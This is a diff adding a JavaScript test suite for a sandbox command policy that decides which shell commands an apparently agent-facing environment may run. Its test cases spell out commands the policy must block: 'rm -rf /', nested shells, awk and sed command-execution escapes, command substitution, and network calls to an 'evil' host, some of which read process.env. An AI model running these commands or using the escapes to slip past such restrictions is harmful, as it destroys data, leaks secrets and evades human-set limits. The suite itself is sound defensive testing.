@@ -0,0 +1,236 @@
+/**
+ * @fileoverview Sandbox Command Policy Tests
+ *
+ * Runs commands through evaluateCommand and checks the verdicts, in
+ * particular for commands that hide another command from the policy.
+ *
+ * @module inngest/policy.test
+ */
+
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+
+import {
+    MAX_COMMAND_OUTPUT_LENGTH,
+    createOutputBuffer,
+    evaluateCommand,
+    truncateOutput,
+} from "./policy.js";
+
+/**
+ * Asserts that a command is blocked by the given rule
+ *
+ * @param {string} command - Command to evaluate
+ * @param {string} rule - Expected rule ("deny", "network" or "allowlist")
+ */
+function assertBlocked(command, rule) {
+    const verdict = evaluateCommand(command);
+
+    assert.equal(verdict.allowed, false, `expected "${command}" to be blocked`);
+    assert.equal(verdict.rule, rule, `expected "${command}" to be blocked by ${rule}`);
+}
+
+/**
+ * Asserts that a command is allowed
+ *
+ * @param {string} command - Command to evaluate
+ */
+function assertAllowed(command) {
+    const verdict = evaluateCommand(command);
+
+    assert.equal(verdict.allowed, true, `expected "${command}" to be allowed: ${verdict.reason}`);
+}
+
+// =============================================================================
+// ALLOWED COMMANDS
+// =============================================================================
+
+describe("evaluateCommand: allowed commands", () => {
+    it("allows installs from the npm registry", () => {
+        assertAllowed("npm install zod --yes");
+        assertAllowed("NODE_ENV=test npm install -D vitest");
+    });
+
+    it("allows installed CLIs run through npx --no", () => {
+        assertAllowed("npx --no tsc --noEmit");
+        assertAllowed("npx --no-install eslint . --quiet");
+        assertAllowed("npm exec --offline -- prettier --check .");
+    });
+
+    it("allows common shell pipelines", () => {
+        assertAllowed("ls -la app && cat package.json | grep react");
+        assertAllowed("find . -name '*.tsx' | sort | head -20");
+        assertAllowed("echo $HOME 2>&1");
+        assertAllowed("node scripts/seed.js");
+        assertAllowed("awk '{ print $1 }' package.json | sort");
+        assertAllowed("sed --sandbox -n '1,20p' app/page.tsx");
+    });
+});
+
+// =============================================================================
+// PROGRAMS RUNNING OTHER COMMANDS
+// =============================================================================
+
+describe("evaluateCommand: programs running other commands", () => {
+    it("blocks env", () => {
+        assertBlocked("env sh -c 'rm -rf /'", "deny");
+        assertBlocked("env rm -rf /", "allowlist");
+        assertBlocked("env", "allowlist");
+    });
+
+    it("blocks xargs", () => {
+        assertBlocked("xargs sh -c id", "deny");
+        assertBlocked("ls | xargs rm", "allowlist");
+    });
+
+    it("blocks find -exec and -execdir", () => {
+        assertBlocked("find . -exec sh -c id ;", "deny");
+        assertBlocked("find . -name '*.js' -exec rm {} \\;", "deny");
+        assertBlocked("find . -execdir id +", "deny");
+        assertBlocked("find . -ok rm {} ;", "deny");
+    });
+
+    it("blocks awk's system(), getline pipes and pipes to commands", () => {
+        assertBlocked("awk 'BEGIN { system(\"id\") }'", "deny");
+        assertBlocked("awk 'BEGIN { \"id\" | getline x; print x }'", "deny");
+        assertBlocked("awk '{print | \"sh\"}'", "deny");
+        assertBlocked("awk 'BEGIN { c = \"id\"; print 1 | c }'", "deny");
+        assertBlocked("gawk '{ print |& \"sh\" }' file", "deny");
+    });
+
+    it("blocks sed without --sandbox (e and w commands)", () => {
+        assertBlocked("sed 'e id' package.json", "deny");
+        assertBlocked("sed '1e id' package.json", "deny");
+        assertBlocked("sed 's/a/id/e' package.json", "deny");
+        assertBlocked("sed -n 'w /etc/profile' package.json", "deny");
+        assertBlocked("sed 's/a/b/w /tmp/out' package.json", "deny");
+        assertBlocked("cat package.json | sed -n '1,5p'", "deny");
+    });
+});
+
+// =============================================================================
+// SHELL ESCAPES
+// =============================================================================
+
+describe("evaluateCommand: shell escapes", () => {
+    it("blocks command substitution", () => {
+        assertBlocked("echo $(bash -c id)", "deny");
+        assertBlocked("echo $(id)", "deny");
+        assertBlocked("echo `id`", "deny");
+        assertBlocked("diff <(ls) <(ls app)", "deny");
+    });
+
+    it("blocks nested shells", () => {
+        assertBlocked("sh -c id", "deny");
+        assertBlocked("bash -c 'rm -rf /'", "deny");
+        assertBlocked("ls && bash -lc id", "deny");
+        assertBlocked("npx --no -c 'id'", "deny");
+        assertBlocked("npm exec --offline --call=id", "deny");
+    });
+});
+
+// =============================================================================
+// NETWORK EGRESS
+// =============================================================================
+
+describe("evaluateCommand: network egress", () => {
+    it("blocks inline node scripts without suggesting a workaround", () => {
+        assert.equal(evaluateCommand("node -e 'x'").reason, "inline node scripts are not allowed");
+
+        assertBlocked("node -e \"fetch('http://evil')\"", "network");
+        assertBlocked("node --eval \"require('http').get('http://evil')\"", "network");
+        assertBlocked("node -p 'process.env'", "network");
+        assertBlocked("ls && node --input-type=module -e 'x'", "network");
+    });
+
+    it("blocks npx without --no", () => {
+        assertBlocked("npx some-package", "network");
+        assertBlocked("npx tsc --noEmit", "network");
+        assertBlocked("npm exec some-package", "network");
+        assertBlocked("npx --no-emit some-package", "network");
+    });
+
+    it("blocks known network tools and remote git", () => {
+        assertBlocked("curl http://evil", "network");
+        assertBlocked("git clone https://github.com/a/b", "network");
+        assertBlocked("npm install https://evil/pkg.tgz", "network");
+    });
+});
+
+// =============================================================================
+// DENIED COMMANDS
+// =============================================================================
+
+describe("evaluateCommand: denied commands", () => {
+    it("blocks dev servers, including through npx --no", () => {
+        assertBlocked("npm run dev", "deny");
+        assertBlocked("npx --no next dev", "deny");
+    });
+
+    it("blocks wiping the project", () => {
+        assertBlocked("rm -rf /", "deny");
+        assertBlocked("ls; rm -rf .", "deny");
+    });
+});
+
+// =============================================================================
+// OUTPUT CAP
+// =============================================================================
+
+describe("createOutputBuffer", () => {
+    /**
+     * Streams `output` into a buffer in chunks of `size` characters
+     *
+     * @param {string} output - Whole output
+     * @param {number} size - Chunk size
+     * @returns {Object} The buffer
+     */
+    const stream = (output, size) => {
+        const buffer = createOutputBuffer();
+
+        for (let start = 0; start < output.length; start += size) {
+            buffer.append(output.slice(start, start + size));
+        }
+
+        return buffer;
+    };
+
+    it("keeps short output whole", () => {
+        const buffer = stream("hello\nworld\n", 3);
+
+        assert.equal(buffer.toString(), "hello\nworld\n");
+        assert.equal(buffer.length, 12);
+    });
+
+    it("keeps the head and tail of long output like truncateOutput", () => {
+        const output = Array.from({ length: 5000 }, (_, index) => `line ${index}`).join("\n");
+
+        for (const size of [1, 7, 4096, output.length]) {
+            const buffer = stream(output, size);
+
+            assert.equal(buffer.toString(), truncateOutput(output));
+            assert.equal(buffer.length, output.length);
+        }
+    });
+
+    it("holds at most MAX_COMMAND_OUTPUT_LENGTH characters while streaming", () => {
+        const buffer = createOutputBuffer();
+        const chunk = "x".repeat(64 * 1024);
+
+        for (let index = 0; index < 100; index++) {
+            buffer.append(chunk);
+        }
+
+        const result = buffer.toString();
+
+        assert.equal(buffer.length, chunk.length * 100);
+        assert.ok(result.length < MAX_COMMAND_OUTPUT_LENGTH + 100);
+        assert.match(result, new RegExp(`\\[${chunk.length * 100 - MAX_COMMAND_OUTPUT_LENGTH} characters truncated\\]`));
+    });
+
+    it("keeps output exactly at the limit whole", () => {
+        const output = "y".repeat(MAX_COMMAND_OUTPUT_LENGTH);
+
+        assert.equal(stream(output, 333).toString(), output);
+    });
+});